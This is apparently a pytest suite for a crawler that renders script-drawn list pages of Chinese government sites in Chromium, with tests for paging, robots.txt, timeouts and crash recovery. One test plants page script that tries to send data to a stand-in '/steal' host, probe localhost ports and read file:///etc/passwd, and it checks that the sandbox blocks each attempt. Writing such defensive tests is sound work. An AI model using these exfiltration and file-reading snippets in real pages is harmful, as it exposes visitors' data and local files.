"""Pages that a script draws: what a browser shows of them, what it must not do, and what is told without one."""

from __future__ import annotations

import contextlib
import json
import threading
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
from towers import certificate, tls_site
from town import Page, Reply, Site, Town, article, html, links, listing

from benchmarks import kills
from crawler import capture, chromium
from crawler.capture import PageRow, Visit
from crawler.drawn import IN_VAIN, Drawings, Plain
from crawler.exchanges import read_exchange
from crawler.frontier import Want
from crawler.ledger import NOTHING
from crawler.run import LOG_NAME, crawl
from crawler.units import Override
from crawler.walk import Steps

RUN, LATER = "2026-11-23", "2026-11-30"
QUICK: dict[str, Any] = {"DOWNLOAD_TIMEOUT": 5, "RETRY_TIMES": 0, "DRAWN_TIMEOUT": 4, "DRAWN_PAGES": 8}
COUNT = 25
needs_browser = pytest.mark.skipif(not (chromium.program() and chromium.find_spec(chromium.EXTRA)), reason="no Chromium here")  # fmt: skip


def data(first: int, last: int) -> str:
    return json.dumps([{"t": f"临时救助资金公示第{one}期", "h": f"/a/{one}.html", "d": f"2025-03-{one:02d}"} for one in range(first, last + 1)])  # fmt: skip


DRAW = """<div class="list"><ul id="newsList"></ul></div><script>
const key = s => s.split('').reverse().join('');
function draw(rows) { document.getElementById('newsList').innerHTML = rows.map(r =>
  `<li><a href="${r.h}" title="${r.t}">${r.t}</a><span>${r.d}</span></li>`).join(''); }
function load(page) { return fetch('/data/' + key('tsil') + page + '.json').then(r => r.json()).then(draw); }
</script>"""
PAGER = """<div class="pager">当前第<b id="now">1</b>/3页 <a href="javascript:;" onclick="turn(-1)">上一页</a>
<a href="javascript:;" id="next" onclick="turn(1)">下一页</a></div><script>let now = 1;
function turn(by) { if (now + by < 1 || now + by > 3) return; now += by; document.getElementById('now').innerText = now; load(now); }
load(1);</script>"""


def furnish(site: Site, column: str, pages: Mapping[str, Page] = {}) -> None:
    site.pages["/"] = html(links(("/shjz/", "社会救助"), ("/about.html", "机构概况")), "某市民政局")
    site.pages["/about.html"] = article("机构概况")
    site.pages["/shjz/"] = html(column, "社会救助")
    site.pages |= {f"/a/{one}.html": article(f"临时救助资金公示第{one}期") for one in range(1, COUNT + 1)}
    site.pages |= pages


def service(*parts: tuple[int, int]) -> dict[str, Page]:
    json_type = {"Content-Type": "application/json"}
    return {f"/data/list{number}.json": Reply(data(*part).encode(), headers=json_type) for number, part in enumerate(parts, 1)}  # fmt: skip


THREE = service((1, 10), (11, 20), (21, COUNT))


@dataclass
class Seen:
    """One crawl of one site."""

    directory: Path
    site: Site
    visit: Visit

    def rows(self) -> dict[str, PageRow]:
        return {row.url.replace(self.site.url, "/"): row for row in capture.read_pages(self.directory)}

    def articles(self) -> set[str]:
        return {path for path, row in self.rows().items() if row.state in ("fetched", "unchanged") and path.startswith("/a/")}  # fmt: skip

    def missed(self) -> dict[str, str]:
        return {path: row.reason for path, row in self.rows().items() if row.state == "missed"}

    def log(self) -> str:
        return (self.directory.parents[1] / LOG_NAME).read_text()


def visited(site: Site, tmp_path: Path, run: str = RUN, override: Override | None = None, **settings: Any) -> Seen:
    unit = replace(site.unit(), override=override or Override())
    (visit,) = crawl([unit], tmp_path, run, delay=0, settings=QUICK | settings)
    return Seen(capture.unit_dir(tmp_path, run, unit.unit_id), site, visit)


@pytest.fixture
def site(monkeypatch: pytest.MonkeyPatch) -> Iterator[Site]:
    monkeypatch.delenv("GONGKAI_DRAWING")
    with Town() as town:
        yield town.site(1)


ALL = {f"/a/{one}.html" for one in range(1, COUNT + 1)}


@needs_browser
def test_a_list_that_a_script_fetches_is_drawn(site: Site, tmp_path: Path) -> None:
    furnish(site, DRAW + "<script>load(1);</script>", service((1, COUNT)))
    seen = visited(site, tmp_path)
    assert (seen.articles(), seen.missed(), seen.visit.drawn) == (ALL, {}, 1)
    row = seen.rows()["/shjz/#drawn"]
    assert (row.kind, row.state, row.columns) == ("list", "fetched", ("社会救助",))
    assert "临时救助资金公示第25期" in capture.read_body(seen.directory, row).decode()
    assert "WARC-Refers-To-Target-URI: " + site.url + "shjz/" in read_exchange(seen.directory, row).response
    assert any(agent.startswith("gongkai/") for agent in site.agents) and len(site.agents) == 1


@needs_browser
def test_a_list_is_turned_to_its_end(site: Site, tmp_path: Path) -> None:
    furnish(site, DRAW + PAGER, THREE)
    seen = visited(site, tmp_path)
    assert (seen.articles(), seen.missed()) == (ALL, {})
    assert {path for path in seen.rows() if "#" in path} == {"/shjz/#drawn", "/shjz/#drawn-2", "/shjz/#drawn-3"}


@needs_browser
def test_a_list_that_grows_by_a_click_is_kept_once(site: Site, tmp_path: Path) -> None:
    more = """<button onclick="grow()">加载更多</button><script>let page = 1, shown = [];
    const keep = draw; draw = rows => keep(shown = shown.concat(rows));
    function grow() { if (page > 3) return; load(page++); } grow();</script>"""
    furnish(site, DRAW + more, THREE)
    seen = visited(site, tmp_path)
    assert (seen.articles(), seen.missed()) == (ALL, {})
    assert [path for path in seen.rows() if "#" in path] == ["/shjz/#drawn"]


@needs_browser
def test_a_front_page_that_a_script_draws_leads_on(site: Site, tmp_path: Path) -> None:
    furnish(site, listing(*[(f"/a/{one}.html", f"临时救助资金公示第{one}期", "2025-03-02") for one in range(1, 6)]))
    shown = json.dumps(site.pages["/"])
    site.pages["/"] = html("<div id=app></div>", "某市民政局", f"<script>addEventListener('load', () => {{document.body.innerHTML = {shown}}})</script>")  # fmt: skip
    seen = visited(site, tmp_path)
    assert len(seen.articles()) == 5
    assert (seen.missed(), seen.rows()["/"].state, seen.visit.state, seen.visit.drawn) == ({}, "fetched", "complete", 1)


@needs_browser
def test_a_turn_that_fails_leaves_the_rest_of_the_list_unseen(site: Site, tmp_path: Path) -> None:
    furnish(site, DRAW + PAGER, {**THREE, "/data/list3.json": Reply(b"{}", 500)})
    seen = visited(site, tmp_path)
    assert len(seen.articles()) == 20
    assert seen.missed() == {"/shjz/#more": "script_list"}


@needs_browser
def test_entries_that_only_a_script_opens_stay_unseen(site: Site, tmp_path: Path) -> None:
    rows = data(1, 6).replace("/a/", "javascript:show(").replace(".html", ")")
    furnish(site, DRAW + "<script>load(1);</script>", {"/data/list1.json": rows})
    seen = visited(site, tmp_path)
    assert (seen.articles(), seen.missed()) == (set(), {"/shjz/#more": "script_list"})


@needs_browser
def test_a_script_reaches_nothing_that_the_registry_does_not_name(site: Site, tmp_path: Path) -> None:
    with Town() as other:
        stranger = other.site(1)  # the same host behind another port
        stranger.pages["/steal"] = "{}"
        asks = "".join(
            f"try {{ {one} }} catch (e) {{}}"
            for one in (
                f"fetch('{stranger.url}steal').catch(e => 0);",
                f"new WebSocket('{stranger.url.replace('http', 'ws')}steal');",
                f"window.open('{stranger.url}steal');",
                f"navigator.sendBeacon('{stranger.url}steal', 'x');",
                "fetch('http://127.0.0.1:22/').catch(e => 0);",
                "fetch('http://localhost:631/').catch(e => 0);",
                "fetch('file:///etc/passwd').then(r => r.text()).then(t => document.title = t).catch(e => 0);",
                f"document.body.insertAdjacentHTML('beforeend', '<iframe src=\"{stranger.url}steal\"></iframe><iframe src=\"file:///etc/passwd\"></iframe>');",
            )
        )
        furnish(site, DRAW + f"<script>{asks} load(1);</script>", service((1, COUNT)))
        seen = visited(site, tmp_path)
        assert (seen.articles(), seen.missed(), dict(stranger.hits)) == (ALL, {}, {})
    assert "root:" not in capture.read_body(seen.directory, seen.rows()["/shjz/#drawn"]).decode()
    assert f"{stranger.url}steal was not asked for: not named in the registry" in seen.log()
    assert "http://127.0.0.1:22/ was not asked for" in seen.log()


@needs_browser
def test_a_redirect_outside_is_not_followed(site: Site, tmp_path: Path) -> None:
    with Town() as other:
        stranger = other.site(1)
        stranger.pages["/steal"] = "{}"
        site.pages["/away"] = Reply(b"", 302, {"Location": stranger.url + "steal"})
        site.pages["/frame"] = Reply(b"", 301, {"Location": stranger.url + "steal"})
        away = "fetch('/away').catch(e => 0).then(() => fetch('/away', {mode: 'no-cors'})).catch(e => 0)"
        furnish(site, "<iframe src=/frame></iframe>" + DRAW + f"<script>{away}.then(() => load(1));</script>", service((1, COUNT)))  # fmt: skip
        seen = visited(site, tmp_path)
        assert (seen.articles(), dict(stranger.hits), site.hits["/away"]) == (ALL, {}, 2)
    assert f"{stranger.url}steal was not asked for: not named in the registry" in seen.log()


@needs_browser
def test_a_page_that_moves_outside_is_not_taken(site: Site, tmp_path: Path) -> None:
    with Town() as other:
        stranger = other.site(1)
        stranger.pages["/list"] = html(listing(("/a/1.html", "临时救助资金公示第1期", "2025-03-01")))
        site.pages["/away"] = Reply(b"", 302, {"Location": stranger.url + "list"})
        furnish(
            site,
            DRAW + "<form action=/away></form><script>load(1).then(() => document.forms[0].submit());</script>",
            service((1, 0)),
        )
        seen = visited(site, tmp_path)
        assert dict(stranger.hits) == {}
    assert (seen.articles(), seen.missed()) == (set(), {"/shjz/#more": "script_list"})


@needs_browser
def test_a_script_keeps_to_robots_txt(site: Site, tmp_path: Path) -> None:
    site.pages["/robots.txt"] = Reply(b"User-agent: *\nDisallow: /data/\n", headers={"Content-Type": "text/plain"})
    furnish(site, DRAW + "<script>load(1);</script>", service((1, COUNT)))
    seen = visited(site, tmp_path)
    assert (seen.missed(), site.hits["/data/list1.json"]) == ({"/shjz/#more": "script_list"}, 0)


@needs_browser
@pytest.mark.parametrize(
    ("script", "reason"),
    [("while (true) {}", "timeout"), ("setInterval(() => fetch('/data/none.json'), 20)", "empty")],
    ids=["computes for ever", "asks for ever"],
)
def test_a_script_without_end_leaves_a_miss_and_harms_no_other_page(site: Site, tmp_path: Path, script: str, reason: str) -> None:  # fmt: skip
    furnish(
        site,
        DRAW + f"<script>{script}</script>",
        {**service((1, COUNT)), "/ylfw/": html(DRAW + "<script>load(1);</script>", "养老服务")},
    )
    site.pages["/"] = html(links(("/shjz/", "社会救助"), ("/ylfw/", "养老服务")), "某市民政局")
    seen = visited(site, tmp_path)
    assert (seen.articles(), seen.missed()) == (ALL, {"/shjz/#more": "script_list"})
    assert seen.rows()["/shjz/#drawn"].reason == reason
    assert site.hits["/data/none.json"] < 150


@needs_browser
def test_only_so_many_pages_are_drawn(site: Site, tmp_path: Path) -> None:
    names = {"/shjz/": "社会救助", "/ylfw/": "养老服务", "/etfl/": "儿童福利"}
    site.pages["/"] = html(links(*names.items()), "某市民政局")
    furnish(site, "", service((1, 3)))
    site.pages["/"] = html(links(*names.items()), "某市民政局")
    site.pages |= {path: html(DRAW + "<script>load(1);</script>", name) for path, name in names.items()}
    seen = visited(site, tmp_path, DRAWN_PAGES=2)
    assert (seen.visit.drawn, list(seen.missed().values())) == (2, ["script_list"])


@needs_browser
def test_a_second_week_draws_again_and_changes_nothing(site: Site, tmp_path: Path) -> None:
    furnish(site, DRAW + PAGER, THREE)
    first = visited(site, tmp_path)
    before = dict(site.hits)
    second = visited(site, tmp_path, LATER)
    assert site.hits["/data/list3.json"] == 2 * before["/data/list3.json"]
    assert second.articles() == first.articles()
    assert second.missed() == {}
    rows = second.rows()
    assert {rows[path].state for path in rows if "#drawn" in path} == {"unchanged"}


@needs_browser
def test_a_resumed_visit_takes_drawn_pages_from_its_capture(site: Site, tmp_path: Path) -> None:
    furnish(site, DRAW + PAGER, THREE)
    first = visited(site, tmp_path)
    before, rows = dict(site.hits), first.rows()
    (first.directory / capture.VISIT).unlink()
    again = visited(site, tmp_path)
    assert (again.rows(), again.missed(), again.visit.drawn) == (rows, {}, 1)
    assert {path: count for path, count in site.hits.items() if path != "/robots.txt"} == {path: count for path, count in before.items() if path != "/robots.txt"}  # fmt: skip


@needs_browser
def test_a_column_with_a_list_is_drawn_where_the_unit_asks_for_it(site: Site, tmp_path: Path) -> None:
    """The plain page shows a list; that a script adds to it is only known to who looks."""
    rows = [(f"/a/{one}.html", f"临时救助资金公示第{one}期", "2025-03-02") for one in range(1, 6)]
    adds = "".join(
        f"<li><a href=/a/{one}.html>临时救助资金公示第{one}期</a><span>2025-03-02</span></li>" for one in (6, 7)
    )
    furnish(site, listing(*rows) + f"<script>document.querySelector('.list ul').innerHTML += '{adds}';</script>")
    usual = visited(site, tmp_path / "usual")
    always = visited(site, tmp_path / "always", override=Override(rendering="always"))
    assert (len(usual.articles()), usual.visit.drawn, "/shjz/#drawn" in usual.rows()) == (5, 0, False)
    assert (len(always.articles()), always.missed(), "/shjz/#drawn" in always.rows()) == (7, {}, True)


@needs_browser
def test_a_page_of_a_host_that_is_spared_the_check_of_its_certificate_is_drawn(site: Site, tmp_path: Path) -> None:
    furnish(site, DRAW + "<script>load(1);</script>", service((1, COUNT)))
    with tls_site("127.0.7.120", certificate(tmp_path), site.pages) as url:
        unit = replace(site.unit(), sites=(url,), override=Override(tls="lax"))
        (visit,) = crawl([unit], tmp_path, RUN, delay=0, settings=QUICK)
    assert (visit.state, visit.drawn, visit.documents, visit.misses) == ("complete", 1, COUNT + 1, 0)
    assert "was not checked (tls: lax)" in visit.note


@needs_browser
def test_a_process_killed_while_it_draws_leaves_nothing_behind_and_goes_on(site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    furnish(site, DRAW + PAGER, THREE)
    calm = visited(site, tmp_path / "calm", kills.RUN)
    drawing, given_up = threading.Event(), threading.Event()

    def second_page() -> Reply:
        drawing.set()
        given_up.wait(30)
        return Reply(b"[]")

    site.pages["/data/list2.json"] = second_page
    monkeypatch.setenv("GONGKAI_MARK", mark := uuid4().hex)
    process = kills.started([site.unit()], tmp_path / "torn", QUICK)
    assert drawing.wait(60)
    assert len(processes(mark)) > 1
    process.kill()
    process.wait()
    given_up.set()
    deadline = time.monotonic() + 20
    while processes(mark) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not processes(mark)
    site.pages |= THREE
    torn = visited(site, tmp_path / "torn", kills.RUN)
    assert (torn.articles(), torn.missed(), torn.visit.drawn) == (ALL, {}, 1)
    assert kills.pages_of(tmp_path / "torn") == kills.pages_of(tmp_path / "calm") and calm.articles() == ALL
    assert list(kills.unreadable(tmp_path / "torn")) == []


def processes(mark: str) -> list[str]:
    """Processes that have this mark in their environment."""
    found = []
    for environment in Path("/proc").glob("[0-9]*/environ"):
        with contextlib.suppress(OSError):  # it has ended meanwhile
            found += [environment.parent.name] if mark.encode() in environment.read_bytes() else []
    return found


@pytest.mark.parametrize(("shown", "more"), [(False, False), (True, True)])
def test_a_unit_whose_pages_are_drawn_in_vain_is_drawn_no_longer(shown: bool, more: bool) -> None:
    drawings = Drawings("auto", 30)
    for number in range(IN_VAIN + 1):
        plain = Plain(Want(url=f"http://a.gov.cn/{number}/", role="column", columns=(f"栏目{number}",)), Steps(kind="list", unfollowable="script_list"), NOTHING)  # fmt: skip
        drawn = drawings.ask(plain, known=False)
        if number < IN_VAIN:
            assert drawn is not None and drawn.url == f"http://a.gov.cn/{number}/#drawn"
            drawings.settle(drawn, shown)
    assert (drawn is not None) is more


@pytest.mark.parametrize("way", ["no browser", "switched off", "never"])
def test_without_a_browser_the_list_stays_unseen(site: Site, tmp_path: Path, way: str, monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    if way == "no browser":
        monkeypatch.setenv("GONGKAI_CHROMIUM", "/nowhere/chromium")
    if way == "switched off":
        monkeypatch.setenv("GONGKAI_DRAWING", "off")
    furnish(site, DRAW + PAGER, THREE)
    seen = visited(site, tmp_path, override=Override(rendering="never" if way == "never" else ""))
    assert (seen.missed(), seen.visit.drawn) == ({"/shjz/#more": "script_list"}, 0)
    assert not [path for path in seen.rows() if "#drawn" in path]
